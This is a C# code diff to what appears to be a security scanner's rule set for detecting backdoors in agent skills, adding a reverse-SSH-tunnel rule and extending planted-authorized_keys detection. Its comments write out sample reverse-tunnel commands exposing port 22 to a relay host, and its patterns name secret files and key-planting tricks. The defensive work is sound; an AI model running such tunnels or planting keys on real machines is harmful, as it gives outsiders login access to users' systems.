@@ -16,6 +16,7 @@ public static partial class Footholds
     [
         new("planted-ssh-key", AuditSeverity.Critical, "adds an SSH key the skill carries to authorized_keys: whoever holds its private half logs in as the user", PublicKey()) { Judge = JudgePlantedKey, Anchors = ["ssh-", "ecdsa-"] },
         new("planted-ssh-key", AuditSeverity.High, "appends a key file the skill ships, or one fetched from a host that is no forge's key list, to authorized_keys: whoever holds its private half logs in as the user", KeyFileAppended()) { Judge = JudgeKeyFile, Anchors = ["authorized_keys"] },
+        new("reverse-tunnel", AuditSeverity.High, "opens a reverse SSH tunnel that hands this machine's SSH port to a remote host: whoever runs that host can log in through it", ReverseTunnel()) { Judge = JudgeReverseTunnel, Anchors = [":22"] },
         new("secret-attachment", AuditSeverity.High, "attaches a file of secrets (.env, credentials, keys) to a message or an upload", SecretAttached()) { Judge = JudgeAttachment, Anchors = ["attach", "senddocument", "send_document", "mimeapplication", "mimebase", "-f", "--form"], Signal = Signal.Send },
         new("hidden-recipient", AuditSeverity.Medium, "copies mail to a fixed blind-copy address the user never sees", FixedBcc()) { Anchors = ["bcc"] },
         new("package-index", AuditSeverity.High, "installs packages from an index no vendor runs: any dependency, and every update, can be swapped there", PackageIndex()) { Judge = JudgeIndex, Anchors = ["index-url", "index_url", "--registry", "registry=", "npm_config_registry", "find-links", "--source", "pip", "config set", "npmregistryserver", "goproxy", "[[source]]", "[[tool.uv.index]]", "[[tool.poetry.source]]", "set registry"] },
@@ -31,6 +32,24 @@ public static partial class Footholds
     [GeneratedRegex(@"\bgit(?:[ \t]+-[Cc][ \t]+[^\s;&|]+)*[ \t]+add\b(?=[^\n;&|#]*?[ \t](?:-f|--force|-[A-Za-z]*f[A-Za-z]*)(?=[ \t]|$))[^\n;&|#]*?[ \t]""?(?:[~.\w$/{}-]*/)?(?:\.env(?![\w-]|\.(?:example|sample|template|dist)\b)|\.ssh\b|id_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)|\.npmrc\b|\.netrc\b|\.git-credentials\b|\.openclaw\b|\.clawdbot\b|auth-profiles|(?:credentials|secrets?)(?![\w-]|\.(?:example|sample|template|md)\b)|[\w*-]*\.pem\b|[\w*-]*\.key\b)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.Multiline)]
     private static partial Regex ForceAddedSecrets();
 
+    /// <summary>
+    /// ssh or autossh asked to forward a port of the remote host back to this machine's SSH server:
+    /// <c>ssh -N -R 2222:localhost:22 wd@relay.example.dev</c>, <c>-R "2${RANDOM:0:4}:127.0.0.1:22"</c>.
+    /// </summary>
+    [GeneratedRegex(@"\b(?:auto)?ssh\b[^\n]{0,300}?[ \t]-R[ \t]*[""']?[^\s""']{0,60}:(?:localhost|127\.0\.0\.1|\[::1\]|::1)?:22(?=[""'\s]|$)", RegexOptions.CultureInvariant)]
+    private static partial Regex ReverseTunnel();
+
+    /// <summary>High where the line names the host the tunnel goes to (<c>user@relay.example.dev</c>, a host with a dot); medium where the user gives it (<c>"$SERVER"</c>).</summary>
+    private static AuditSeverity? JudgeReverseTunnel(string text, Match match)
+    {
+        var end = text.IndexOf('\n', match.Index + match.Length);
+        var rest = text.AsSpan(match.Index + match.Length, (end < 0 ? text.Length : end) - match.Index - match.Length);
+        return LineJudges.JudgeNotNegated(text, match) is null ? null : NamedHost().IsMatch(rest) ? AuditSeverity.High : AuditSeverity.Medium;
+    }
+
+    [GeneratedRegex(@"(?:^|[\s""'@])(?:[\w-]+\.)+[a-z]{2,}\b|\b(?:\d{1,3}\.){3}\d{1,3}\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex NamedHost();
+
     /// <summary>A public key's blob (at least 40 characters of it: a real key, not <c>AAAA…</c>).</summary>
     [GeneratedRegex(@"\b(?:ssh-(?:ed25519|rsa|dss)|ecdsa-sha2-nistp\d{3}|sk-ssh-ed25519@openssh\.com)[ \t]+AAAA[0-9A-Za-z+/]{40,}={0,3}", RegexOptions.CultureInvariant)]
     private static partial Regex PublicKey();
@@ -44,12 +63,68 @@ public static partial class Footholds
     [GeneratedRegex(@">>|\btee(?:\s+-[b-z]+)*\s+(?:-[b-z]*a[a-z]*|--append)\b|\bopen\s*\([^\n]*[""']a\+?[""']|\.open\s*\(\s*[""']a\+?[""']|\bappend\w*\b|\bAdd-Content\b|\bappendFile\w*\b|\bwrite\w*\s*\(|\bcat\s*>", I)]
     private static partial Regex Appends();
 
-    /// <summary>A carried key counts where, within <see cref="KeyLines"/> lines, authorized_keys is named and something appends or writes.</summary>
+    /// <summary>
+    /// A carried key counts where, within <see cref="KeyLines"/> lines, authorized_keys is named and something appends or
+    /// writes; or where the name the key is held in (<c>HELPER_PUB = ("ssh-ed25519 AAAA…")</c> at the top of a program) is
+    /// appended, anywhere in a file that names authorized_keys.
+    /// </summary>
     private static AuditSeverity? JudgePlantedKey(string text, Match match)
     {
+        if (LineJudges.JudgeNotNegated(text, match) is null)
+        {
+            return null;
+        }
+
         var window = Lines(text, match.Index, KeyLines);
-        return AuthorizedKeys().IsMatch(window) && Appends().IsMatch(window) && LineJudges.JudgeNotNegated(text, match) is not null ? AuditSeverity.Critical : null;
+        if (AuthorizedKeys().IsMatch(window) && Appends().IsMatch(window))
+        {
+            return AuditSeverity.Critical;
+        }
+
+        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
+        return match.Index - lineStart <= 200 && KeyHolder().Match(text, lineStart, match.Index - lineStart) is { Success: true } holder
+            && PerText.Ask(text, "key-appended:" + holder.Groups["name"].Value, t => NameAppended(t, holder.Groups["name"].Value))
+            ? AuditSeverity.Critical : null;
     }
+
+    /// <summary>Whether a file that names authorized_keys appends on a line that uses <paramref name="name"/> (<c>fh.write(… + HELPER_PUB + "\n")</c>, <c>echo "$KEY" &gt;&gt; …</c>).</summary>
+    private static bool NameAppended(string text, string name)
+    {
+        if (!text.Contains("authorized_keys", StringComparison.Ordinal))
+        {
+            return false;
+        }
+
+        foreach (Match use in Regex.Matches(text, @"(?<![\w$])\$?\{?" + Regex.Escape(name) + @"\b", RegexOptions.CultureInvariant).Take(64))
+        {
+            var start = use.Index == 0 ? 0 : text.LastIndexOf('\n', use.Index - 1) + 1;
+            var end = text.IndexOf('\n', use.Index);
+            var line = text[start..(end < 0 ? text.Length : end)];
+            if (line.Length <= 400 && Appends().IsMatch(line) && !line.TrimStart().StartsWith(name, StringComparison.Ordinal))
+            {
+                return true;
+            }
+        }
+
+        return false;
+    }
+
+    /// <summary>The name a key is assigned to, on the key's line before it: <c>HELPER_PUB = ("</c>, <c>const KEY = '</c>, <c>SUPPORT_KEY="</c>.</summary>
+    [GeneratedRegex(@"^[ \t]*(?:(?:const|let|var|my|local|readonly|export|static|final|pub)[ \t]+)*\$?(?<name>[A-Za-z_]\w{0,63})[ \t]*(?::[ \t]*[\w<>\[\]&']+[ \t]*)?:?=[ \t]*\(?[ \t]*[""'`]$", RegexOptions.CultureInvariant)]
+    private static partial Regex KeyHolder();
+
+    /// <summary>
+    /// Whether a program installs the user's own key: it names ssh-copy-id, ssh-keygen or a <c>.pub</c> file, carries no
+    /// key and fetches nothing. Its append to authorized_keys puts the user's key where the user says.
+    /// </summary>
+    public static bool InstallsOwnKey(string text) =>
+        PerText.Ask(text, "installs-own-ssh-key", t => OwnKeyTool().IsMatch(t) && !PublicKey().IsMatch(t) && !FetchesAnything().IsMatch(t));
+
+    [GeneratedRegex(@"\bssh-copy-id\b|\bssh-keygen\b|\.pub\b", RegexOptions.CultureInvariant)]
+    private static partial Regex OwnKeyTool();
+
+    [GeneratedRegex(@"https?://|\b(?:curl|wget|urlopen|requests\.get|fetch|Invoke-WebRequest|Invoke-RestMethod|http\.Get)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex FetchesAnything();
 
     /// <summary>The lines from <paramref name="count"/> before the offset's line to <paramref name="count"/> after it, at most 4 KiB either side.</summary>
     private static string Lines(string text, int offset, int count)
